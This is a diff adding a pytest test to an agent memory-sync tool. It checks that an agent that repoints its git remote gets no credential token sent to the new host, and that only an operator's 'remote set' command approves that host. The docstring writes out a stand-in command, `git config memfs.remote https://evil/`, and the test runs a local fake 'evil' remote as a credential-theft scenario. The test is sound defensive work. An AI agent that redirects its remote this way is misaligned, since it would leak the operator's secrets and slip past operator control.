@@ -105,6 +105,36 @@ def test_S3_the_letta_key_does_not_reach_the_foreign_host(home, folder, agent):
     assert files_with(home.folder, KEY.encode()) == []
 
 
+@pytest.mark.parametrize("command", ["set", "clone"])
+def test_S3_an_agent_that_moves_its_remote_gets_no_token_there(home, folder, remote, agent, command):
+    """The operator names a host; `git config memfs.remote https://evil/` is the agent's, or its reader's."""
+    a = agent()
+    remote.repository("mem.git")
+    token = folder / "token"
+    token.write_text(CANARY + "\n")
+    token.chmod(0o600)
+    home.env["MEMFS_REMOTE_TOKEN_FILE"] = str(token)
+    name = ("remote", "set") if command == "set" else ("clone",)
+    home.run(*name, "--agent", a, remote.url("mem.git"))
+    approved = os.path.join(home.folder, ".memfs", "remotes", a)
+    assert home.sync(a)["state"] == "synced"        # the token went where it was meant for
+    with FakeRemote(folder / "evil", token="another") as evil:
+        evil.repository("mem.git")
+        home.checkout(a).run("config", "memfs.remote", evil.url("mem.git"))
+        report = home.sync(a, code=4)
+        assert "memfs remote set --agent ID URL" in report["line"] + report["advice"]
+        assert f"memfs remote set --agent {a}" in shown(home, a, "show")["warning"]
+        shown(home, a, "check", code=None)
+        assert evil.requests and not [q for q in evil.requests if "authorization" in q.headers]
+        assert not [v for v in home.config(a, f"http.http://127.0.0.1:{evil.port}/.extraHeader") if v]
+        home.run("remote", "set", "--agent", a, evil.url("mem.git"))      # now the operator says it
+        home.sync(a, code=4)
+        assert [q for q in evil.requests if "authorization" in q.headers]
+    assert stat.S_IMODE(os.stat(approved).st_mode) == 0o600
+    home.run("remote", "unset", "--agent", a)
+    assert not os.path.exists(approved)
+
+
 def test_T24_user_info_in_an_address_is_accepted_with_a_warning(home, remote, agent):
     a = agent()
     remote.repository("mem.git")
